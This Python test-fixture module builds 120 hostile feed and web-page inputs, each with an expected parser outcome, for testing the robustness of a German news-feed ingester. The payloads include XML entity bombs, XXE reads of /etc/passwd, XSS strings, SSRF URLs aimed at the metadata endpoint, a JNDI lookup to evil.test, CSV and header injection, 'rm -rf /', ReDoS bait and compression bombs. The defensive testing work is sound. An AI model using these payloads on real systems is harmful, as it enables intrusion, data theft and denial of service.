"""Hostile inputs for feeds and pages, of our own making: 120 ways in which bytes go wrong, and what we require of each.

`expect`  ok: parsed, with entries or text as `want` says; degrade: no crash, within the limits, a flag is fine;
          reject: refused with a reason, within the limits.
Inputs are made when asked for (some are 17 MB); `build(name)` gives the bytes. @CANARY@ becomes an address that must
never be asked for.
"""

from __future__ import annotations

import gzip
import json
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any


@dataclass(frozen=True, slots=True, kw_only=True)
class Case:
    kind: str
    expect: str
    note: str
    want: dict[str, Any]
    big: bool
    make: Callable[[], str | bytes]


HEAD = '<?xml version="1.0" encoding="utf-8"?>\n'


def rss(items, head=HEAD, doctype="", title="Testfeed", ns=""):
    return (
        head + doctype + f'<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/" '
        f'xmlns:dc="http://purl.org/dc/elements/1.1/" {ns}><channel><title>{title}</title>'
        f"<link>https://example.test/</link><description>d</description>\n" + items + "</channel></rss>\n"
    )


def item(n=1, title=None, link=None, guid=None, date="Mon, 10 Jan 2022 15:30:00 +0100", extra="", desc="Kurztext"):
    t = f"Meldung {n}" if title is None else title
    l = f"<link>https://example.test/a/{n}</link>" if link is None else (f"<link>{link}</link>" if link else "")
    g = (
        f'<guid isPermaLink="false">id-{n}</guid>'
        if guid is None
        else (f'<guid isPermaLink="false">{guid}</guid>' if guid else "")
    )
    d = f"<pubDate>{date}</pubDate>" if date else ""
    return f"<item><title>{t}</title>{l}{g}{d}<description>{desc}</description>{extra}</item>\n"


ART = (
    "Die diplomatischen Gespräche in Genf wurden am Montag fortgesetzt, wie ein Sprecher des Ministeriums mitteilte. "
    "Beide Seiten bekräftigten ihre Positionen und vereinbarten ein weiteres Treffen für die kommende Woche in Wien. "
)


def html(body, head='<meta charset="utf-8"><title>Titel der Seite</title>'):
    return f'<!DOCTYPE html><html lang="de"><head>{head}</head><body>{body}</body></html>'


_S = [
    "In Genf trafen sich am Montag Vertreter beider Regierungen zu vertraulichen Beratungen über die Lage an der Grenze.",
    "Die Vizeaußenministerin erklärte anschließend, man habe deutlich gemacht, welche Punkte nicht verhandelbar seien.",
    "Ihr Amtskollege sprach von komplizierten, aber professionellen Gesprächen und nannte drei offene Fragen.",
    "Für Mittwoch ist nach Angaben des Bündnisses ein weiteres Treffen in Brüssel geplant, am Donnerstag folgt Wien.",
    "Der Generalsekretär dämpfte die Erwartungen: Es sei unrealistisch, dass alle Probleme bis Ende der Woche gelöst würden.",
    "Beobachter werten die Zusammenkunft als Versuch, einen neuen bewaffneten Konflikt auf dem Kontinent zu verhindern.",
    "Ein Sprecher des Ministeriums bestätigte, dass Fachleute parallel über Abrüstung und Manöver beraten sollen.",
    "Ob daraus ein schriftliches Ergebnis entsteht, ließen beide Seiten am Abend ausdrücklich offen.",
]


def article(n=8):
    return (
        "<article><h1>Gespräche in Genf</h1>"
        + "".join(f"<p>{_S[i % len(_S)]} {_S[(i * 3 + 1) % len(_S)]}</p>" for i in range(n))
        + "</article>"
    )


XSS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
    '<style>@import "//evil.test"</style>',
    '<p style="background:url(javascript:alert(1))">',
    "<form action=//evil.test><button formaction=javascript:alert(1)>",
    '<base href="//evil.test/">',
    '<meta http-equiv=refresh content="0;url=//evil.test">',
    '<object data="data:text/html;base64,PHNjcmlwdD4=">',
    '<img src="http://tracker.test/p.gif">',
    '"><script>alert(1)</script>',
]


URLS = [
    "file:///etc/passwd",
    "javascript:alert(1)",
    "data:text/html,x",
    "gopher://127.0.0.1:6379/_x",
    "ftp://127.0.0.1/x",
    "http://127.0.0.1:1/",
    "http://localhost:1/",
    "http://169.254.169.254/latest/meta-data/",
    "http://[::1]:1/",
    "http://[::ffff:127.0.0.1]:1/",
    "http://[::127.0.0.1]:1/",
    "http://2130706433:1/",
    "http://0x7f000001:1/",
    "http://0177.0.0.1:1/",
    "http://127.1:1/",
    "http://0.0.0.0:1/",
    "http://100.64.0.1/",
    "http://192.168.1.1/",
    "http://[fe80::1]/",
    "http://[64:ff9b::7f00:1]/",
    "http://[2002:7f00:1::]/",
    "http://127.0.0.1:1\\@example.test/",
    "http://example.test@127.0.0.1:1/",
    "http://user:geheim@example.test/",
    "http://example.test/\r\nX-Injected: 1",
    "http://example.test:99999/",
    "http:///x",
    "//127.0.0.1:1/x",
    "../../../../etc/passwd",
    "http://ⓛocalhost:1/",
    "http://127。0。0。1:1/",
    "http://example.test/" + "a" * 5000,
]


def _laughs(end="\n"):
    """A DOCTYPE whose entity l10 is ten thousand million words."""
    nested = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">{end}' for i in range(1, 11))
    return f'<!DOCTYPE rss [{end}<!ENTITY l0 "lol">{end}{nested}]>{end}'


def _param_entity_laughs():
    d = (
        "<!DOCTYPE rss [\n<!ENTITY % p0 \"<!ENTITY z 'lol'>\">\n"
        + "".join(f'<!ENTITY % p{i} "{f"&#37;p{i - 1};" * 10}">\n' for i in range(1, 10))
        + "%p9;\n]>\n"
    )
    return rss(item(1, title="&z;"), doctype=d)


def _nfd():
    import unicodedata

    return unicodedata.normalize("NFD", rss(item(1, title="Außenminister Müller in Köln")))


def _truncated():
    s = rss("".join(item(i) for i in range(1, 6)))
    return s[: s.index("Meldung 3") + 4]


def _truncated_multibyte():
    s = rss("".join(item(i, title=f"Gespräche {i}") for i in range(1, 5))).encode()
    return s[: s.index("Gespräche 3".encode()) + 6]


def _link_variants():
    ls = [
        "https://example.test/a/1",
        "http://example.test/a/1",
        "https://example.test/a/1/",
        "https://example.test/a/1?utm_source=rss",
        "https://example.test/a/1#c",
        "https://EXAMPLE.test:443/a/1",
    ]
    return rss("".join(item(1, link=l.replace("&", "&amp;"), guid=f"g{i}") for i, l in enumerate(ls)))


def _bad_dates():
    ds = [
        "Wed, 30 Feb 2022 10:00:00 GMT",
        "0001-01-01T00:00:00Z",
        "Fri, 31 Dec 9999 23:59:59 GMT",
        "9999-12-31T23:59:59-12:00",
        "0000-00-00T00:00:00Z",
        "Thu, 01 Jan 1970 00:00:00 GMT",
        "gestern",
        "Mo, 10 Jan 2022 15:30:00 MEZ",
        "10.01.2022 15:30 Uhr",
        "Mon, 10 Jan 2022 15:30:00 +9999",
        "2016-12-31T23:59:60Z",
        "Mon, 10 Jan 22 15:30 GMT",
        "1641825000",
        "２０２２-01-10",
        "Mon, 10 Jan 2022 25:61:61 GMT",
        "",
    ]
    return rss("".join(item(i, date=d) for i, d in enumerate(ds)))


def _xss():
    from xml.sax.saxutils import escape as e

    return rss(
        "".join(
            item(
                i,
                title=e(x),
                desc=e(x),
                extra=f"<content:encoded><![CDATA[{x}]]></content:encoded><dc:creator>{e(x)}</dc:creator><category>{e(x)}</category>",
            )
            for i, x in enumerate(XSS)
        )
    )


def _text_injection():
    from xml.sax.saxutils import escape as e

    ts = [
        "[klick](javascript:alert(1))",
        "![x](http://tracker.test/p.gif)",
        "<!channel> Eilmeldung",
        "@everyone Eilmeldung",
        "{{7*7}} {% raw %}",
        "${jndi:ldap://evil.test/a}",
        '=HYPERLINK("http://evil.test","x")',
        "Titel&#13;&#10;Bcc: opfer@evil.test",
        "Titel\x1b[2J\x1b[31mrot".replace("\x1b", "&#x241b;"),
        "`rm -rf /`",
        "| a | b |\n|---|---|",
        "</script><script>alert(1)</script>",
        "<https://evil.test|tagesschau.de>",
    ]
    return rss("".join(item(i, title=(e(t) if "&#" not in t else t)) for i, t in enumerate(ts)))


def _evil_links():
    from xml.sax.saxutils import escape as e

    return rss("".join(item(i, link=e(u), guid=f"g{i}") for i, u in enumerate(URLS)))


def _half_a_page():
    s = html(article(10))
    return s[: len(s) // 2]


BIG: dict[str, Any] = {"big": True}
_ROWS: tuple[tuple[str, str, str, dict[str, Any], Callable[[], str | bytes]], ...] = (
    # XML entity attacks
    ("f_billion_laughs", "reject", "billion laughs, 10 levels x10 = 3 GB", {}, lambda: rss(item(1, title="&l10;"), doctype=_laughs())),
    ("f_billion_laughs_oneline", "reject", "billion laughs all on one line (defeats line-anchored regexes)", {},
     lambda: rss(item(1, title="&l10;"), doctype=_laughs(""))),
    ("f_billion_laughs_attr", "reject", "billion laughs in an attribute", {},
     lambda: rss('<item><title>x</title><enclosure url="&l10;" length="1" type="a/b"/></item>', doctype=_laughs())),
    ("f_param_entity_laughs", "reject", "parameter-entity laughs", {}, _param_entity_laughs),
    ("f_quadratic_blowup", "reject", "quadratic blowup: one 50 kB entity, 20,000 references = 1 GB", {},
     lambda: rss(item(1, title="&a;" * 20000), doctype='<!DOCTYPE rss [\n<!ENTITY a "' + "A" * 50000 + '">\n]>\n')),
    ("f_quadratic_below_threshold", "degrade", "quadratic blowup kept under expat's 8 MiB activation threshold (7 MB)", {},
     lambda: rss(item(1, title="&a;" * 140), doctype='<!DOCTYPE rss [\n<!ENTITY a "' + "A" * 50000 + '">\n]>\n')),
    ("f_xxe_file", "reject", "external general entity file:///etc/passwd", {"must_not_contain": "root:"},
     lambda: rss(item(1, title="X&x;Y"), doctype='<!DOCTYPE rss [\n<!ENTITY x SYSTEM "file:///etc/passwd">\n]>\n')),
    ("f_xxe_http_dtd", "ok", "external DTD over HTTP (@CANARY@ is replaced by a canary URL): parse, never fetch it", {"entries": 1, "no_canary_hit": True},
     lambda: rss(item(1), doctype='<!DOCTYPE rss SYSTEM "@CANARY@/evil.dtd">\n')),
    ("f_xxe_param", "reject", "external parameter entity", {"no_canary_hit": True},
     lambda: rss(item(1), doctype='<!DOCTYPE rss [\n<!ENTITY % p SYSTEM "@CANARY@/evil.dtd">\n%p;\n]>\n')),
    ("f_xinclude", "degrade", "XInclude of a local file", {"must_not_contain": "root:"},
     lambda: rss(item(1, title='<xi:include href="file:///etc/passwd" parse="text"/>'), ns='xmlns:xi="http://www.w3.org/2001/XInclude"')),
    ("f_doctype_rss091", "ok", "legitimate old Netscape RSS 0.91 DOCTYPE must still parse", {"entries": 1, "no_canary_hit": True},
     lambda: rss(item(1), doctype='<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">\n')),
    ("f_doctype_dev", "degrade", "DOCTYPE pointing to a local device file", {}, lambda: rss(item(1), doctype='<!DOCTYPE rss SYSTEM "file:///dev/zero">\n')),
    # encodings
    ("f_enc_declared_utf8_is_latin1", "ok", "declared utf-8, bytes are latin-1", {"entries": 1}, lambda: rss(item(1, title="Außenminister Müller")).encode("latin-1")),
    ("f_enc_declared_latin1_is_utf8", "ok", "declared iso-8859-1, bytes are utf-8 (mojibake trap)", {"entries": 1},
     lambda: rss(item(1, title="Außenminister Müller"), head='<?xml version="1.0" encoding="iso-8859-1"?>\n').encode()),
    ("f_enc_cp1252", "ok", "windows-1252 with „quotes“ and –", {"entries": 1, "title": "„Gespräche“ – heute"},
     lambda: rss(item(1, title="„Gespräche“ – heute"), head='<?xml version="1.0" encoding="windows-1252"?>\n').encode("cp1252")),
    ("f_enc_utf16le_nobom", "ok", "UTF-16 LE without BOM", {"entries": 1},
     lambda: rss(item(1, title="Müller"), head='<?xml version="1.0" encoding="utf-16"?>\n').encode("utf-16-le")),
    ("f_enc_utf16_bom_declared_utf8", "ok", "UTF-16 with BOM but declared utf-8", {"entries": 1}, lambda: rss(item(1, title="Müller")).encode("utf-16")),
    ("f_enc_utf32", "ok", "UTF-32 with BOM", {"entries": 1}, lambda: rss(item(1, title="Müller"), head='<?xml version="1.0" encoding="utf-32"?>\n').encode("utf-32")),
    ("f_enc_utf7", "degrade", "declared utf-7 (filter-evasion)", {},
     lambda: rss(item(1, title="+ADw-script+AD4-alert(1)+ADw-/script+AD4-"), head='<?xml version="1.0" encoding="utf-7"?>\n')),
    ("f_enc_unknown", "degrade", "declared encoding does not exist", {}, lambda: rss(item(1), head='<?xml version="1.0" encoding="x-klingon"?>\n')),
    ("f_enc_python_codec", "degrade", "declared encoding is a Python byte codec (zip/rot13/idna)", {},
     lambda: rss(item(1), head='<?xml version="1.0" encoding="zip"?>\n')),
    ("f_leading_blank", "ok", "BOM + leading blank lines before XML declaration", {"entries": 1}, lambda: b"\xef\xbb\xbf\r\n\r\n" + rss(item(1)).encode()),
    ("f_leading_php_warning", "ok", "PHP warning text before XML declaration", {"entries": 1},
     lambda: "<br />\n<b>Warning</b>: mysql_connect() in /var/www/x.php on line 3<br />\n" + rss(item(1))),
    ("f_mixed_crlf", "ok", "mixed CR, LF, CRLF", {"entries": 2}, lambda: rss(item(1) + item(2)).replace("\n", "\r\n", 2).replace("<item>", "\r<item>\n")),
    ("f_nul_bytes", "degrade", "NUL bytes in title and guid", {}, lambda: rss(item(1, title="A\x00B", guid="id\x001") + item(2))),
    ("f_control_chars", "degrade", "C0 control characters", {}, lambda: rss(item(1, title="A\x01\x02\x0b\x1fB") + item(2))),
    ("f_bad_charrefs", "ok", "numeric references to NUL, surrogates, U+FFFE, > U+10FFFF in one item must not cost the feed", {"entries": 2},
     lambda: rss(item(1, title="&#0;&#xD800;&#xFFFE;&#x110000;&#99999999999;") + item(2))),
    ("f_bidi", "ok", "bidi overrides, zero-width, homoglyph NАТО (Cyrillic А)", {"entries": 1},
     lambda: rss(item(1, title="\u202eOTAN\u202c N\u0410\u0422\u041e Ge\u00adspr\u00e4che\u200b\ufeff"))),
    ("f_nfd", "ok", "NFD instead of NFC umlauts", {"entries": 1}, _nfd),
    # size / depth
    ("f_nested_1m", "reject", "1,000,000 nested elements", BIG, lambda: rss("<item>" + "<a>" * 1_000_000 + "</a>" * 1_000_000 + "</item>")),
    ("f_nested_unclosed_1m", "reject", "1,000,000 nested, never closed, tag soup", BIG, lambda: HEAD + "<rss><channel><item><description>" + "<div>" * 1_000_000),
    ("f_nested_in_content", "degrade", "100,000 nested divs inside escaped description (sanitiser path)", BIG, lambda: rss(item(1, desc="&lt;div&gt;" * 100_000 + "x"))),
    ("f_title_10mb", "degrade", "10 MB title on one line", BIG, lambda: rss(item(1, title="A" * 10_000_000) + item(2))),
    ("f_attr_10mb", "degrade", "10 MB attribute", BIG,
     lambda: rss(f'<item><title>x</title><enclosure url="https://e.test/{"a" * 10_000_000}" length="1" type="a/b"/></item>')),
    ("f_attrs_200k", "degrade", "200,000 attributes on one element", BIG,
     lambda: rss("<item " + " ".join(f'a{i}="1"' for i in range(200_000)) + "><title>x</title></item>")),
    ("f_entries_100k", "degrade", "100,000 entries, 17 MB", BIG, lambda: rss("".join(item(i) for i in range(100_000)))),
    ("f_entries_20k_html", "degrade", "20,000 entries each with small HTML content", BIG,
     lambda: rss("".join(item(i, extra='<content:encoded><![CDATA[<p>Hallo <b>Welt</b> <a href="/x">y</a></p>]]></content:encoded>') for i in range(20_000)))),
    ("f_guid_1mb", "degrade", "1 MB guid", BIG, lambda: rss(item(1, guid="g" * 1_000_000) + item(2))),
    ("f_ns_100k", "degrade", "100,000 namespaces", BIG, lambda: rss("<item " + " ".join(f'xmlns:n{i}="urn:{i}"' for i in range(100_000)) + "><title>x</title></item>")),
    ("f_redos_newlines", "reject", "2 MB of newlines, no tag (regex ^\\s* quadratic)", BIG, lambda: HEAD + "\n" * 2_000_000),
    ("f_redos_newlines_200k", "degrade", "200 kB of blank lines before <rss> (regex ^\\s* quadratic, small file)", {},
     lambda: HEAD + "\n" * 200_000 + rss(item(1), head="")),
    ("f_redos_bang", "degrade", '300 kB of "<!" (tag-soup regexes)', {}, lambda: HEAD + "<rss><channel><item><title>" + "<!" * 150_000),
    ("f_redos_lt", "degrade", '300 kB of "<" ', {}, lambda: HEAD + "<rss><channel><item><title>" + "<" * 300_000),
    ("f_redos_amp", "degrade", '200,000 "&" without semicolon', {}, lambda: HEAD + "<rss><channel><item><title>" + "&" * 200_000),
    ("f_redos_css", "degrade", "style attribute, 100 kB, CSS sanitiser regexes", {}, lambda: rss(item(1, desc='&lt;p style="' + "a:" * 50_000 + '"&gt;x&lt;/p&gt;'))),
    ("f_redos_date", "degrade", "date string of 100,000 digits/spaces (date regexes)", {},
     lambda: rss(item(1, date="1" * 50_000 + " " * 50_000 + "x") + item(2, date="Mon, " + "0" * 100_000))),
    ("f_redos_author", "degrade", "author regex bait, 100 kB (feedparser issue 562, still quadratic in 6.0.14)", {},
     lambda: rss(item(1, extra="<author>x@" + "a." * 50_000 + "!</author>") + item(2))),
    # structure
    ("f_empty", "reject", "empty body", {}, lambda: ""),
    ("f_whitespace", "reject", "whitespace only", {}, lambda: " \n\t " * 100),
    ("f_truncated", "degrade", "truncated in the middle of item 3 of 5", {"min_entries": 2}, _truncated),
    ("f_truncated_multibyte", "degrade", "truncated inside a multi-byte character", {"min_entries": 2}, _truncated_multibyte),
    ("f_unclosed_cdata", "degrade", "unclosed CDATA", {}, lambda: rss(item(1) + "<item><title><![CDATA[Offen</title></item>")),
    ("f_unclosed_comment", "degrade", "unclosed comment", {}, lambda: rss(item(1) + "<!-- offen " + item(2))),
    ("f_two_roots", "degrade", "two concatenated documents", {}, lambda: rss(item(1)) + rss(item(2))),
    ("f_raw_ampersand", "ok", "unescaped & in title and link", {"entries": 2},
     lambda: rss(item(1, title="Krieg & Frieden", link="https://example.test/a?x=1&y=2") + item(2))),
    ("f_html_entities", "ok", "undeclared HTML entity &nbsp; &uuml;", {"entries": 1}, lambda: rss(item(1, title="M&uuml;ller&nbsp;&ndash;&nbsp;heute"))),
    ("f_undeclared_ns", "ok", "undeclared namespace prefix", {"entries": 1}, lambda: rss(item(1, extra='<media:content url="https://e.test/x.jpg"/>'))),
    ("f_html_error_page", "reject", "HTTP 200 HTML error page instead of feed", {}, lambda: html("<h1>503 Service Unavailable</h1><p>Wartungsarbeiten</p>")),
    ("f_html_consent", "reject", "HTTP 200 consent wall instead of feed", {},
     lambda: html('<div id="sp_message_container"><h2>Wir und unsere Partner brauchen Ihre Zustimmung</h2><button>Alle akzeptieren</button></div><script src="https://cmp.example.test/x.js"></script>')),
    ("f_html_login", "reject", "login page with redirects in meta refresh", {},
     lambda: html("<form action=/login><input name=u><input name=p type=password></form>", head='<meta http-equiv=refresh content="0;url=/login">')),
    ("f_html_challenge", "reject", "bot challenge page", {},
     lambda: html("<noscript>Enable JavaScript and cookies to continue</noscript>", head="<title>Just a moment...</title>")),
    ("f_json_feed", "degrade", "JSON Feed 1.1", {},
     lambda: json.dumps({"version": "https://jsonfeed.org/version/1.1", "title": "T", "items": [{"id": "1", "url": "https://example.test/a/1", "title": "Meldung", "content_text": "x", "date_published": "2022-01-10T15:30:00+01:00"}]})),
    ("f_json_deep", "reject", "JSON nested 100,000 deep", {}, lambda: "[" * 100_000),
    ("f_png", "reject", "PNG bytes with feed content type", {}, lambda: b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 50),
    ("f_pdf", "reject", "PDF", {}, lambda: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + b"0" * 2000),
    ("f_body_is_path", "reject", "body is a local path: feedparser.parse(bytes) would open it", {"must_not_contain": "root:"}, lambda: b"/etc/passwd"),
    ("f_body_is_url", "reject", "body is a URL: feedparser.parse(str) would fetch it", {"no_canary_hit": True}, lambda: "@CANARY@/ssrf-by-body"),
    ("f_body_is_gzip_bomb", "reject", "gzip bomb 1000:1 as body without header (100 MB)", {}, lambda: gzip.compress(b"<rss>" + b" " * 100_000_000, 9, mtime=0)),
    ("f_body_gzip_noheader", "ok", "gzip body without Content-Encoding header", {"entries": 1}, lambda: gzip.compress(rss(item(1)).encode(), mtime=0)),
    # identity, dates
    ("f_no_guid", "ok", "missing guid (link is identity)", {"entries": 2}, lambda: rss(item(1, guid="") + item(2, guid=""))),
    ("f_no_link", "ok", "missing link, guid only", {"entries": 2}, lambda: rss(item(1, link="") + item(2, link=""))),
    ("f_no_guid_no_link", "ok", "neither guid nor link", {"entries": 2}, lambda: rss(item(1, guid="", link="") + item(2, guid="", link=""))),
    ("f_empty_guid", "ok", "empty guid element", {"entries": 2}, lambda: rss(item(1, guid=" ") + item(2, guid=" "))),
    ("f_dup_guid", "ok", "same guid, different links (two different articles)", {"entries": 2, "distinct_articles": 2},
     lambda: rss(item(1, guid="same") + item(2, guid="same"))),
    ("f_dup_item", "ok", "same item twice in one document", {"entries": 2, "distinct_articles": 1}, lambda: rss(item(1) + item(1))),
    ("f_link_variants", "ok", "same article under http/https, utm_*, trailing slash, fragment, AMP", {"entries": 6, "distinct_articles": 1}, _link_variants),
    ("f_bad_dates", "ok", "invalid dates: Feb 30, year 1, year 9999, year 0, epoch 0, words, German, tz +9999, leap second, missing", {"entries": 16}, _bad_dates),
    ("f_future_dates", "ok", "dates in the future (+1 h, 2099)", {"entries": 2},
     lambda: rss(item(1, date="Thu, 01 Jan 2099 00:00:00 GMT") + item(2, date="Fri, 01 Jan 2038 03:14:08 GMT"))),
    ("f_dst_dates", "ok", "DST: 02:30 on 2022-03-27 (does not exist) and 2022-10-30 (twice), CET/CEST/MESZ names", {"entries": 5},
     lambda: rss("".join(item(i, date=d) for i, d in enumerate(["Sun, 27 Mar 2022 02:30:00 CET", "Sun, 30 Oct 2022 02:30:00 CEST", "Sun, 30 Oct 2022 02:30:00 CET", "Sun, 30 Oct 2022 02:30:00 MESZ", "2022-10-30T02:30:00 Europe/Berlin"])))),
    # injection
    ("f_xss", "ok", "stored-XSS payloads in title, description, content, author, category, link", {"entries": len(XSS), "no_active_html": True}, _xss),
    ("f_text_injection", "ok", "markdown / Slack / Discord / Jinja / CSV / log / e-mail injection in titles", {"entries": 13, "no_active_markup": True}, _text_injection),
    ("f_evil_links", "ok", "SSRF / scheme / credential / header-splitting URLs as item links", {"entries": len(URLS), "no_fetch_of_non_public": True}, _evil_links),
    ("f_path_traversal", "ok", "path traversal in guid/title (if ever used as a file name)", {"entries": 4},
     lambda: rss(item(1, guid="../../../../etc/cron.d/x") + item(2, guid="..\\..\\x") + item(3, guid="/etc/passwd") + item(4, guid="a" * 300 + "/CON"))),
    # HTML articles
    ("h_good", "ok", "plain good article", {"min_chars": 800}, lambda: html(article())),
    ("h_nested_div_1m", "reject", "1,000,000 nested <div>", BIG, lambda: html("<div>" * 1_000_000 + ART + "</div>" * 1_000_000)),
    ("h_nested_div_10k", "degrade", "10,000 nested <div> around a good article", {}, lambda: html("<div>" * 10_000 + article() + "</div>" * 10_000)),
    ("h_nested_div_200", "degrade", "200 nested <div> around a good article", {"min_chars": 800}, lambda: html("<div>" * 200 + article() + "</div>" * 200)),
    ("h_nested_b_1m", "degrade", "1,000,000 nested <b>, unclosed", BIG, lambda: html(article() + "<b>" * 1_000_000)),
    ("h_line_10mb", "degrade", "10 MB single text line in one <p>", BIG, lambda: html("<article><p>" + ART * 47_000 + "</p></article>")),
    ("h_word_10mb", "degrade", "10 MB single word", BIG, lambda: html("<article><p>" + "a" * 10_000_000 + "</p></article>")),
    ("h_paras_200k", "degrade", "200,000 short paragraphs, 9 MB", BIG,
     lambda: html("<article>" + "<p>Ein kurzer Satz über Gespräche in Genf.</p>" * 200_000 + "</article>")),
    ("h_paras_20k", "degrade", "20,000 paragraphs, 0.9 MB", {}, lambda: html("<article>" + "<p>Ein kurzer Satz über Gespräche in Genf.</p>" * 20_000 + "</article>")),
    ("h_table_100k", "degrade", "100,000 table rows", BIG, lambda: html("<article><table>" + "<tr><td>Zelle</td><td>Zelle</td></tr>" * 100_000 + "</table></article>")),
    ("h_table_10k", "degrade", "10,000 table rows", {}, lambda: html("<article><table>" + "<tr><td>Zelle</td><td>Zelle</td></tr>" * 10_000 + "</table></article>")),
    ("h_links_100k", "degrade", "100,000 links", BIG, lambda: html(article() + "".join(f'<a href="/x{i}">Link {i}</a>' for i in range(100_000)))),
    ("h_nested_lists", "degrade", "20,000 nested lists", {}, lambda: html(article() + "<ul><li>" * 20_000)),
    ("h_br_100k", "degrade", "100,000 <br>", {}, lambda: html(article() + "<p>" + "<br>" * 100_000 + "</p>")),
    ("h_lt_1m", "degrade", '1,000,000 "<"', BIG, lambda: html("<article><p>" + "<" * 1_000_000)),
    ("h_comments", "degrade", '500,000 "<!--" unclosed', BIG, lambda: html(article() + "<!--" * 500_000)),
    ("h_attrs", "degrade", "100,000 attributes", BIG, lambda: html("<article " + " ".join(f"a{i}=1" for i in range(100_000)) + "><p>" + ART * 5 + "</p></article>")),
    ("h_jsonld_deep", "degrade", "JSON-LD nested 100,000 deep (json RecursionError)", {},
     lambda: html(article(), head='<meta charset=utf-8><title>T</title><script type="application/ld+json">' + '{"a":' * 100_000 + "1" + "}" * 100_000 + "</script>")),
    ("h_jsonld_redos", "degrade", "JSON-LD with regex-unfriendly 500 kB", {},
     lambda: html(article(), head='<meta charset=utf-8><title>T</title><script type="application/ld+json">{"@type":"NewsArticle","author":' + '{"@type":"Person","name":' * 20_000 + "</script>")),
    ("h_date_redos", "degrade", "date-regex bait: 300 kB of digits and dots", {},
     lambda: html(article() + "<p>" + "10.01." * 50_000 + "</p><time>" + "2022-" * 20_000 + "</time>")),
    ("h_meta_huge", "degrade", "meta tags with 1 MB values", {},
     lambda: html(article(), head='<meta charset=utf-8><meta property="og:title" content="' + "T" * 500_000 + '"><meta name=author content="' + "von " * 100_000 + '">')),
    ("h_nul", "degrade", "NUL and control bytes in text", {"min_chars": 700}, lambda: html(article().replace("Genf", "Ge\x00nf\x01"))),
    ("h_enc_latin1", "ok", "header says utf-8, bytes latin-1, meta says utf-8", {"min_chars": 800, "text": "Gespräche"}, lambda: html(article()).encode("latin-1")),
    ("h_enc_conflict", "ok", "meta iso-8859-1, bytes utf-8", {"min_chars": 800, "text": "Gespräche"},
     lambda: html(article(), head='<meta charset="iso-8859-1"><title>T</title>').encode()),
    ("h_utf16_nobom", "ok", "UTF-16 LE without BOM", {"min_chars": 800, "text": "Gespräche"}, lambda: html(article()).encode("utf-16-le")),
    ("h_truncated", "degrade", "article truncated half-way through the body (must be flagged as truncated)", {}, _half_a_page),
    ("h_consent", "reject", "consent wall, HTTP 200", {}, lambda: CASES["f_html_consent"].make()),
    ("h_paywall", "degrade", "paywall teaser: 1 paragraph then offer text", {},
     lambda: html(f'<article><h1>Titel</h1><p>{ART}</p><div class="paywall"><h2>Jetzt weiterlesen mit Plus</h2><p>Testen Sie 4 Wochen für 1 Euro.</p></div></article>')),
    ("h_soft404", "reject", "soft 404, HTTP 200", {},
     lambda: html("<h1>Seite nicht gefunden</h1><p>Die gewünschte Seite existiert nicht mehr. Bitte nutzen Sie die Suche.</p>")),
    ("h_js_only", "degrade", "template change: body rendered by JavaScript, empty HTML", {},
     lambda: html('<div id="root"></div><script>window.__DATA__={"body":"' + ART * 4 + '"}</script>')),
    ("h_xss", "ok", "XSS payloads in article text", {"no_active_html": True},
     lambda: html("<article>" + "".join(f"<p>{_S[i % 8]} Absatz {i}. {x}</p>" for i, x in enumerate(XSS)) + "</article>")),
    ("h_tdm_optout", "ok", "robots noai/noindex + tdm-reservation meta: policy must be seen", {"policy": "tdm-reservation=1"},
     lambda: html(article(), head='<meta charset=utf-8><title>T</title><meta name="tdm-reservation" content="1"><meta name="tdm-policy" content="https://example.test/tdm.json"><meta name="robots" content="noindex, noai">')),
    ("h_gzip_bomb_bytes", "reject", "bytes are a gzip bomb (100 MB) although no header said so", {},
     lambda: gzip.compress(b"<html><body>" + b"<p>a</p>" * 12_500_000, 9, mtime=0)),
    ("h_zlib_bomb_bytes", "reject", "bytes are a zlib bomb (100 MB)", {}, lambda: zlib.compress(b"<html><body>" + b"<p>a</p>" * 12_500_000, 9)),
    ("h_empty", "reject", "empty", {}, lambda: ""),
    ("h_billion_laughs", "reject", "XML with billion laughs where HTML is expected", {}, lambda: CASES["f_billion_laughs"].make()),
    ("h_pdf", "reject", "PDF bytes", {}, lambda: CASES["f_pdf"].make()),
)  # fmt: skip
"""Name (f_ of a feed, h_ of a page), what is required, what it is, what is wanted of it or BIG, and how it is made."""

CASES = {
    name: Case(
        kind="feed" if name.startswith("f_") else "html",
        expect=expect,
        note=note,
        want={} if want is BIG else want,
        big=want is BIG,
        make=make,
    )
    for name, expect, note, want, make in _ROWS
}


def build(name: str, canary: str = "http://127.0.0.1:9") -> bytes:
    made = CASES[name].make()
    body = made.encode("utf-8", "surrogatepass") if isinstance(made, str) else made
    return body.replace(b"@CANARY@", canary.encode())
